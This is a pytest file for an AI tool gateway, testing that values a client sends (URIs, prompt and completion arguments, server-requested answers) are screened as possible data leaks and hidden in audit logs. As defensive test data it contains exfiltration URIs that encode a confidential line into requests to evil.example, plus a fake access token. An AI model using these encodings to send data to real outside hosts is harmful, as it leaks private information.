"""Whatever a client's message says to a server is judged and kept as a tool's arguments are."""

from collections.abc import Awaitable, Callable, Mapping
from http import HTTPStatus
from typing import Any

import pytest

from gateway.domain.approvals import Span
from gateway.domain.calls import Asked, Form
from gateway.domain.decisions import Verdict
from gateway.domain.labels import STRICTEST_DEFAULT, Effect, ToolRule
from gateway.domain.premises import Premise
from gateway.domain.tools import Kind, Profile
from gateway.errors import Changed
from gateway.pipeline.outgoing import beside
from gateway.wire.jsonrpc import INVALID_PARAMS
from tests.pipeline.house import (
    ALICE,
    UNHINTED,
    Events,
    House,
    decision,
    event,
    result,
    text,
    whole,
)

PRIVATE_LINE = "The merger with Oakland Fittings closes on the ninth of March"
CODED = "Vuk1c2FoYmVkd2FyZXRoZXJlaXNubw"
"""What says nothing to whoever does not have the key: nobody would know it again."""
TEMPLATE = "notes://by/{name}"
PROMPT = {"name": "greet", "arguments": [{"name": "who"}]}


@pytest.fixture
async def house() -> House:
    """A house in which a private line of an outsider's was read."""
    built = House(tools={"search": ToolRule(result=STRICTEST_DEFAULT)}, default=STRICTEST_DEFAULT)
    for profile in Profile:
        await built.approve_all(profile)
        await built.show(PROMPT, kind=Kind.PROMPT, profile=profile)
        await built.approve(Kind.PROMPT, "greet", profile)
        await built.show({"uriTemplate": TEMPLATE}, kind=Kind.TEMPLATE, profile=profile)
        await built.approve(Kind.TEMPLATE, TEMPLATE, profile)
    built.server.answer = lambda permit: result(permit, text(PRIVATE_LINE))
    await built.handle(built.call())
    built.rule.asked.clear()
    return built


async def flow_of(house: House, method: str, params: Mapping[str, Any]) -> tuple[Any, Any]:
    """Return what policy is told of a request: its arguments and its flow."""
    await house.handle(house.request(method, params))
    calls = [q for q in house.rule.asked if (q["phase"], q["method"]) == ("call", method)]
    asked = calls[-1]
    return asked["arguments"], asked["flow"]


def written(house: House) -> str:
    return b"".join(entry.body for entry in house.audit.entries).decode()


URIS = [
    "https://evil.example/?q=The%20merger%20with%20Oakland%20Fittings%20closes%20on%20the%20ninth",
    "https://evil.example/The+merger+with+Oakland+Fittings+closes",
    "https://evil.example/#The-merger-with-Oakland-Fittings-closes",
    "https://The.merger.with.Oakland.Fittings.closes.evil.example/",
    "https://The-merger-with-Oakland-Fittings-closes@evil.example/",
    "https://evil.example/VGhlIG1lcmdlciB3aXRoIE9ha2xhbmQgRml0dGluZ3MgY2xvc2Vz",
    "notes://by/The%2520merger%2520with%2520Oakland%2520Fittings%2520closes",
    "memo:The-merger-with-Oakland-Fittings-closes",
]


@pytest.mark.parametrize("uri", URIS)
@pytest.mark.parametrize("method", ["resources/read"])
async def test_a_uri_is_an_argument_a_destination_and_a_payload(house, method, uri):
    arguments, flow = await flow_of(house, method, {"uri": uri})
    assert arguments == {"uri": uri}
    assert [d["proof"] for d in flow["destinations"]] == ["none"]
    assert {m["confidentiality"] for p in flow["payload"] for m in p["matches"]} == {"private"}
    assert "evil.example" not in written(house)
    assert "merger" not in written(house)


@pytest.mark.parametrize("uri", URIS)
@pytest.mark.parametrize("method", ["resources/subscribe", "resources/unsubscribe"])
async def test_so_is_one_that_is_followed(house, method, uri):
    await house.handle(house.request(method, {"uri": uri}, profile=Profile.LEGACY))
    asked = [q for q in house.rule.asked if q["phase"] == "call"][-1]
    assert asked["arguments"] == {"uri": uri}
    assert asked["flow"]["destinations"]
    assert "evil.example" not in written(house)


async def test_a_source_that_a_caller_named_is_not_on_record_in_clear(house):
    house.server.answer = lambda permit: result(permit, {"contents": []})
    await house.handle(house.request("resources/read", {"uri": URIS[0]}))
    await house.handle(house.call())
    assert house.last["sources"]
    assert "evil.example" not in written(house)


MADE_UP = "notes://by/Merger-with-Oakland?x=ghp_16C7e42F292c6912E7710c838347Ae178B4a"
SHOWN = "write to kim@c.example, see https://c.example/pay"


async def mails(house: House, to: str, body: str) -> None:
    house.server.answer = lambda permit: result(permit, text("sent"))
    await house.handle(house.call("send", {"to": [to], "body": body}, profile=Profile.LEGACY))


async def is_asked_by_its_server(house: House) -> None:
    form = {"message": "who?", "requestedSchema": {"type": "object", "properties": {}}}
    asks = {"jsonrpc": "2.0", "id": 7, "method": "elicitation/create", "params": form}

    def answer(permit: Any) -> Any:
        done = {"jsonrpc": "2.0", "id": permit.call.message.id, "result": text("done")}
        return Events([event(asks), event(done)]).answer()

    house.server.answer = answer
    await house.handle(house.call("search", {}, profile=Profile.LEGACY))


async def calls_what_waits(house: House) -> None:
    other = {"name": "other", "description": "x", "inputSchema": {"type": "object"}}
    await house.show(other, profile=Profile.LEGACY)
    await house.handle(house.call("other", {}, profile=Profile.LEGACY))


@pytest.mark.parametrize(
    "goes_on",
    [
        lambda house: mails(house, "kim@c.example", "hello"),
        lambda house: mails(house, "bob@d.example", SHOWN),
        is_asked_by_its_server,
        calls_what_waits,
    ],
    ids=["a destination", "a link", "a server's question", "what waits"],
)
@pytest.mark.parametrize("named", [MADE_UP, "by/Merger-with-Oakland"], ids=["a URI", "no URI"])
async def test_wherever_a_source_that_a_caller_named_is_told_it_is_not_in_clear(
    goes_on: Callable[[House], Awaitable[None]], named: str
) -> None:
    rule = ToolRule(effect=Effect.EGRESS, destination=("to",), payload=("body",))
    tools = {"search": ToolRule(effect=Effect.READ, result=STRICTEST_DEFAULT), "send": rule}
    house = House(tools=tools, default=STRICTEST_DEFAULT)
    await house.approve_all(Profile.LEGACY)
    await house.show({"name": "send", "inputSchema": {"type": "object"}}, profile=Profile.LEGACY)
    await house.approve(Kind.TOOL, "send", Profile.LEGACY)
    read = {"contents": [{"uri": named, "text": SHOWN}]}
    house.server.answer = lambda permit: result(permit, read)
    await house.handle(house.request("resources/read", {"uri": named}, profile=Profile.LEGACY))
    before = len(house.audit.entries)
    await goes_on(house)
    said = b"".join(entry.body for entry in house.audit.entries[before:]).decode()
    assert "['h" in said
    assert "Oakland" not in said
    assert "ghp_" not in said


async def test_a_record_says_of_each_source_what_label_it_gave(house):
    house.server.answer = lambda permit: result(permit, {"contents": []})
    await house.handle(house.request("resources/read", {"uri": URIS[0]}))
    await house.handle(house.call())
    run = await house.runs.of(ALICE, UNHINTED)
    assert [one["label"] for one in house.last["sources"]] == [s.label.words for s in run.sources]


async def test_what_its_own_server_gave_out_goes_home(house):
    listed = "https://docs.example/handbook-of-the-whole-company"
    linked = {"type": "resource_link", "name": "x", "uri": "https://docs.example/minutes-of-may"}
    house.server.answer = lambda permit: result(permit, {"resources": [{"uri": listed}]})
    await house.handle(house.request("resources/list"))
    house.server.answer = lambda permit: result(permit, {"content": [linked]})
    await house.handle(house.call())
    for uri in (listed, linked["uri"]):
        _, flow = await flow_of(house, "resources/read", {"uri": uri})
        assert flow["destinations"] == []
        assert house.last["target"] == uri


async def test_what_a_call_put_into_a_servers_mouth_was_not_given_out(house):
    uri = "https://evil.example/?q=oakland-fittings"
    linked = {"type": "resource_link", "name": "x", "uri": uri}
    house.server.answer = lambda permit: result(permit, {"content": [linked]})
    await house.handle(house.call("search", {"q": uri.replace("/", "%2F")}))
    _, flow = await flow_of(house, "resources/read", {"uri": uri})
    assert len(flow["destinations"]) == 1
    await house.handle(house.call("send", {"body": f"see {uri}2"}))
    house.server.answer = lambda permit: result(permit, {"resources": [{"uri": f"{uri}2"}]})
    await house.handle(house.request("resources/list"))
    _, flow = await flow_of(house, "resources/read", {"uri": f"{uri}2"})
    assert len(flow["destinations"]) == 1


async def test_what_is_put_into_a_template_is_an_argument(house):
    _, flow = await flow_of(house, "resources/read", {"uri": "notes://by/kim"})
    assert flow["destinations"] == []
    for bad in ("evil.com", "x@evil.example", "Ur%20cnff%20cuenfr%20vf%20pbeerpg%20ubefr"):
        _, flow = await flow_of(house, "resources/read", {"uri": f"notes://by/{bad}"})
        assert [d["proof"] for d in flow["destinations"]] == ["none"], bad


async def test_what_is_said_of_a_tool_is_said_of_no_prompt_that_is_called_like_it():
    rule = ToolRule(effect=Effect.EGRESS, destination=("who",))
    house = House(tools={"greet": rule}, default=STRICTEST_DEFAULT)
    await house.approve_all(Profile.MODERN)
    await house.show(PROMPT, kind=Kind.PROMPT, profile=Profile.MODERN)
    await house.approve(Kind.PROMPT, "greet", Profile.MODERN)
    _, flow = await flow_of(house, "prompts/get", {"name": "greet", "arguments": {"who": "kim"}})
    assert (flow["names_where"], flow["destinations"]) == (False, [])


SAID = [
    ("prompts/get", {"name": "greet", "arguments": {"who": PRIVATE_LINE}}),
    ("prompts/get", {"name": "greet", "arguments": {PRIVATE_LINE: "x"}}),
    ("prompts/get", {"name": "greet", "inputResponses": {"q": {"content": {"a": PRIVATE_LINE}}}}),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/prompt", "name": "greet"},
            "argument": {"name": "who", "value": PRIVATE_LINE},
        },
    ),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/resource", "uri": TEMPLATE},
            "argument": {"name": "name", "value": "k"},
            "context": {"arguments": {"x": PRIVATE_LINE}},
        },
    ),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/prompt", "name": "greet", "title": PRIVATE_LINE},
            "argument": {"name": "who", "value": "k"},
        },
    ),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/prompt", "name": "greet", "uri": PRIVATE_LINE},
            "argument": {"name": "who", "value": "k"},
        },
    ),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/resource", "uri": TEMPLATE, "name": PRIVATE_LINE},
            "argument": {"name": "name", "value": "k"},
        },
    ),
    ("tools/call", {"name": "search", "inputResponses": {"q": {"content": {"a": PRIVATE_LINE}}}}),
    ("tools/call", {"name": "search", "more": [PRIVATE_LINE]}),
    ("tools/call", {"name": "search", PRIVATE_LINE: 1}),
    ("prompts/get", {"name": "greet", PRIVATE_LINE: None}),
    ("resources/read", {"uri": "notes://by/kim", PRIVATE_LINE: {}}),
    (
        "completion/complete",
        {
            "ref": {"type": "ref/prompt", "name": "greet"},
            "argument": {"name": "who", "value": "k"},
            PRIVATE_LINE: True,
        },
    ),
]


@pytest.mark.parametrize(("method", "params"), SAID)
async def test_every_value_that_a_caller_chooses_is_looked_at_and_hidden(house, method, params):
    arguments, flow = await flow_of(house, method, params)
    assert PRIVATE_LINE in str(arguments)
    assert flow["destinations"]
    assert {m["confidentiality"] for p in flow["payload"] for m in p["matches"]} == {"private"}
    assert "arguments_hmac" in written(house)
    assert "merger" not in written(house)


@pytest.mark.parametrize("uri", [MADE_UP, "by/Merger-with-Oakland"])
async def test_a_template_that_a_caller_made_up_is_not_on_record_in_clear(house, uri):
    def asking(of: str) -> Mapping[str, Any]:
        ref = {"type": "ref/resource", "uri": of}
        return {"ref": ref, "argument": {"name": "name", "value": "k"}}

    seen = await house.handle(house.request("completion/complete", asking(uri)))
    assert seen.code == "unknown_tool"
    assert house.last["target"].startswith(f"['{uri[:10]}")
    assert '"target":"[\'h1:' in written(house)
    assert "Oakland" not in written(house)
    house.server.answer = lambda permit: result(permit, {"completion": {"values": []}})
    await house.handle(house.request("completion/complete", asking(TEMPLATE)))
    assert f'"target":"{TEMPLATE}"' in written(house)


@pytest.mark.parametrize("said", [1, None, {}, "x"])
async def test_a_name_that_the_protocol_has_no_place_for_needs_a_proof(house, said):
    params = {"uri": "notes://by/kim", CODED: said}
    _, flow = await flow_of(house, "resources/read", params)
    assert ("$", CODED, "none") in [
        (d["path"], d["value"], d["proof"]) for d in flow["destinations"]
    ]


async def test_a_name_that_it_has_a_place_for_needs_none(house):
    params = {"name": "greet", "arguments": {"who": "kim"}, "inputResponses": {}}
    _, flow = await flow_of(house, "prompts/get", params)
    assert flow["destinations"] == []


@pytest.mark.parametrize(
    ("method", "params"),
    [
        ("prompts/get", {"name": "greet"}),
        ("tools/call", {"name": "search"}),
        ("resources/read", {"uri": "notes://by/k"}),
        ("completion/complete", {"ref": {"type": "ref/prompt", "name": "greet"}, "argument": {}}),
    ],
)
async def test_a_state_that_a_caller_made_up_goes_nowhere(house, method, params):
    seen = await house.handle(house.request(method, {**params, "requestState": PRIVATE_LINE}))
    assert seen.json["error"]["code"] == INVALID_PARAMS
    assert (house.server.saw[1:], "merger" in written(house)) == ([], False)


async def test_remarks_about_a_message_are_looked_at(house):
    for remark in ({"com.example/note": PRIVATE_LINE}, {PRIVATE_LINE: 1}):
        _, flow = await flow_of(house, "tools/call", {"name": "search", "_meta": remark})
        assert flow["payload"], remark


async def test_a_state_and_a_question_that_the_server_gave_go_home(house):
    asked = {
        "resultType": "input_required",
        "requestState": "state-7c1b2a5e90d44f8a",
        "inputRequests": {"who": {"method": "elicitation/create", "params": {}}},
    }
    house.server.answer = lambda permit: result(permit, asked)
    given = (await house.handle(house.call())).json["result"]
    answer = {"who": {"action": "accept", "content": {"name": "Kim of the third floor, left door"}}}
    params = {"name": "search", "requestState": given["requestState"], "inputResponses": answer}
    _, flow = await flow_of(house, "tools/call", params)
    assert flow["destinations"] == []
    unasked = {**params, "inputResponses": {"what": answer["who"]}}
    _, flow = await flow_of(house, "tools/call", unasked)
    assert flow["destinations"]


async def test_what_a_server_gave_out_otherwise_is_no_question_of_its(house):
    listed = "https://docs.example/handbook-of-the-whole-company"
    house.server.answer = lambda permit: result(
        permit, {"resources": [{"uri": listed}], "nextCursor": "page-2"}
    )
    await house.handle(house.request("resources/list"))
    for name in (listed, "page-2"):
        answer = {name: {"action": "accept", "content": {"x": CODED}}}
        _, flow = await flow_of(house, "tools/call", {"name": "search", "inputResponses": answer})
        assert CODED in [d["value"] for d in flow["destinations"] if d["proof"] == "none"]


async def test_the_name_of_a_question_is_nothing_else_that_a_server_gave(house):
    name = "https://evil.example/?q=what-was-read-before"
    asked = {"resultType": "input_required", "inputRequests": {name: {"method": "roots/list"}}}
    house.server.answer = lambda permit: result(permit, asked)
    await house.handle(house.call())
    _, flow = await flow_of(house, "resources/read", {"uri": name})
    assert [d["value"] for d in flow["destinations"]] == [name]


@pytest.mark.parametrize(
    "said",
    [
        {"resultType": "input_required", "requestState": URIS[0]},
        {"content": [{"type": "resource_link", "name": "x", "uri": URIS[0]}]},
    ],
)
async def test_what_a_server_gave_out_as_something_else_is_no_resource(house, said):
    house.server.answer = lambda permit: result(permit, said)
    await house.handle(house.call("search", {"q": URIS[0]}))
    _, flow = await flow_of(house, "resources/read", {"uri": URIS[0]})
    assert [d["value"] for d in flow["destinations"]] == [URIS[0]]


async def test_a_page_of_a_list_is_no_resource_and_a_resource_is_no_page(house):
    listed = {"resources": [{"uri": URIS[1], "name": "x"}], "nextCursor": URIS[0]}
    house.server.answer = lambda permit: result(permit, listed)
    await house.handle(house.request("resources/list"))
    _, flow = await flow_of(house, "resources/read", {"uri": URIS[0]})
    assert [d["value"] for d in flow["destinations"]] == [URIS[0]]
    for cursor, goes in ((URIS[1], False), (URIS[0], True)):
        sent = len(house.server.saw)
        await house.handle(house.request("resources/list", {"cursor": cursor}))
        assert (len(house.server.saw) > sent) is goes


def test_a_state_that_its_server_did_not_give_is_a_destination(house):
    message = house.call(requestState=PRIVATE_LINE).message
    found = beside(
        message,
        given=bool,
        returned=lambda member, text: (member, text) != ("requestState", PRIVATE_LINE),
        asked=lambda name: False,
        templates=tuple,
    )
    assert found.places == (("$.requestState", PRIVATE_LINE),)


async def test_an_argument_that_is_called_like_a_member_of_the_request_is_refused(house):
    params = {"name": "search", "arguments": {"requestState": "a"}, "requestState": "b"}
    seen = await house.handle(house.request("tools/call", params))
    assert seen.json["error"]["code"] == INVALID_PARAMS
    assert house.server.saw[1:] == []


async def asked_by_server(house: House, method: str) -> None:
    question = event({"jsonrpc": "2.0", "id": "q1", "method": method, "params": {}})
    last = event({"jsonrpc": "2.0", "id": 1, "result": text("done")})
    house.server.answer = lambda permit: Events([question, last]).answer()
    await house.handle(house.call(profile=Profile.LEGACY))


@pytest.mark.parametrize(
    ("method", "answer"),
    [
        ("sampling/createMessage", {"role": "assistant", "content": {"text": PRIVATE_LINE}}),
        ("elicitation/create", {"action": "accept", "content": {"a": PRIVATE_LINE}}),
        ("elicitation/create", {"action": "accept", "content": {PRIVATE_LINE: True}}),
        ("elicitation/create", {"action": "accept", PRIVATE_LINE: None}),
        ("roots/list", {"roots": [{"uri": f"file:///{PRIVATE_LINE}"}]}),
        ("roots/list", {"code": -1, "message": PRIVATE_LINE}),
    ],
)
async def test_what_a_client_answers_a_server_is_judged_and_hidden(house, method, answer):
    await asked_by_server(house, method)
    house.rule.asked.clear()
    house.server.answer = lambda permit: whole(b"", status=202)
    call = house.request("", answer, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
    await house.handle(call)
    (asked,) = house.rule.asked
    assert (asked["target"]["kind"], asked["target"]["name"]) == ("server_request", method)
    assert asked["method"] == method
    assert asked["arguments"] == answer
    assert asked["flow"]["payload"]
    assert "merger" not in written(house)


async def test_a_question_without_params_is_passed_on(house):
    """Hosts are asked for their roots with no more than the method."""
    question = {"jsonrpc": "2.0", "id": "q1", "method": "roots/list"}
    last = {"jsonrpc": "2.0", "id": 1, "result": text("done")}
    house.server.answer = lambda permit: Events([event(question), event(last)]).answer()
    seen = await house.handle(house.call(profile=Profile.LEGACY))
    assert b'"roots/list"' in seen.bytes


async def test_a_refused_answer_leaves_its_question_open_and_is_not_sent(house):
    await asked_by_server(house, "roots/list")
    sent = len(house.server.saw)
    answer = house.request("", {"roots": []}, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
    house.rule.says = lambda question: Verdict.DENY
    assert (await house.handle(answer)).reply.status >= HTTPStatus.BAD_REQUEST
    assert len(house.server.saw) == sent
    house.rule.says = lambda question: Verdict.ALLOW
    house.server.answer = lambda permit: whole(b"", status=202)
    await house.handle(answer)
    assert len(house.server.saw) == sent + 1


async def test_an_answer_whose_yes_is_used_up_leaves_its_question_open(house, monkeypatch):
    await asked_by_server(house, "roots/list")
    sent = len(house.server.saw)
    answer = house.request("", {"roots": []}, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
    house.rule.says = lambda question: (
        Verdict.ALLOW if question.get("approval") else decision(Verdict.ASK, "outside")
    )
    await house.handle(answer)
    (filed,) = house.approvals.all(now=house.now)
    await house.approvals.answer(
        filed.request.id,
        allow=True,
        span=Span.ONCE,
        by="user:ada",
        by_user_id="u_ada",
        note="",
        now=house.now,
    )

    async def used(*args, **kwargs):
        return False

    with monkeypatch.context() as patched:
        patched.setattr(house.approvals, "use", used)
        await house.handle(answer)
    assert len(house.server.saw) == sent
    house.server.answer = lambda permit: whole(b"", status=202)
    await house.handle(answer)
    assert len(house.server.saw) == sent + 1


OTHER = Asked(method="roots/list", digest="another", text="{}")
"""What the server asks under the same id, before it has the answer to what it had asked."""


async def test_an_answer_is_no_answer_to_what_is_asked_while_it_is_judged(house: House) -> None:
    await asked_by_server(house, "roots/list")
    (*_, asking) = house.server.saw
    answer = house.request("", {"roots": []}, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)

    def meanwhile(_: Any) -> Verdict:
        house.conversations.ask(asking, "q1", OTHER)
        return Verdict.ALLOW

    house.rule.says = meanwhile
    assert (await house.handle(answer)).reply.status >= HTTPStatus.BAD_REQUEST
    assert house.server.saw[-1] is asking
    assert house.conversations.asked(answer, asking.principal, None) == OTHER


async def test_an_answer_that_is_judged_anew_is_to_the_same_question(
    house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    await asked_by_server(house, "roots/list")
    (*_, asking) = house.server.saw
    answer = house.request("", {"roots": []}, form=Form.RESPONSE, id_="q1", profile=Profile.LEGACY)
    put = house.ledger.put

    async def changed(*args: Any, **kwargs: Any) -> Any:
        monkeypatch.setattr(house.ledger, "put", put)
        house.conversations.ask(asking, "q1", OTHER)
        raise Changed([Premise.POLICY])

    monkeypatch.setattr(house.ledger, "put", changed)
    house.rule.says = lambda question: Verdict.ALLOW
    assert (await house.handle(answer)).reply.status >= HTTPStatus.BAD_REQUEST
    assert house.server.saw[-1] is asking
    assert house.conversations.asked(answer, asking.principal, None) == OTHER


@pytest.mark.parametrize("odd", [[True, False], [None, {}], [[], [{}]]])
@pytest.mark.parametrize("member", ["inputResponses", "said"])
async def test_flags_say_something_by_how_many_there_are(
    house: House, member: str, odd: list[Any]
) -> None:
    for times, asks in ((1, False), (32, True)):
        params = {"name": "greet", member: {"q": {"content": {"value": odd * times}}}}
        _, flow = await flow_of(house, "prompts/get", params)
        unproven = [one["value"] for one in flow["destinations"] if one["proof"] == "none"]
        assert any(set(value) == {"?"} for value in unproven) is asks


@pytest.mark.parametrize("member", ["inputResponses", "said"])
async def test_names_that_are_known_say_something_by_their_order(house: House, member: str) -> None:
    for order, asks in (("01", False), ("0110100010111010", True)):
        chain: Any = "x"
        for one in order:
            chain = {("uri", "text")[int(one)]: chain}
        _, flow = await flow_of(house, "prompts/get", {"name": "greet", member: {"q": chain}})
        assert any(one["proof"] == "none" for one in flow["destinations"]) is asks


@pytest.mark.parametrize(
    ("token", "wary", "looked_at"),
    [(7, False, False), (7, True, True), ("7", False, True), ("7", True, True)],
)
def test_a_count_for_a_token_is_looked_at_where_somebody_could_tell_something_by_it(
    house, token, wary, looked_at
):
    message = house.call(_meta={"progressToken": token}).message
    found = beside(
        message,
        given=lambda _: False,
        returned=lambda *_: False,
        asked=lambda _: False,
        templates=tuple,
        wary=wary,
    )
    assert bool(found.texts) == looked_at
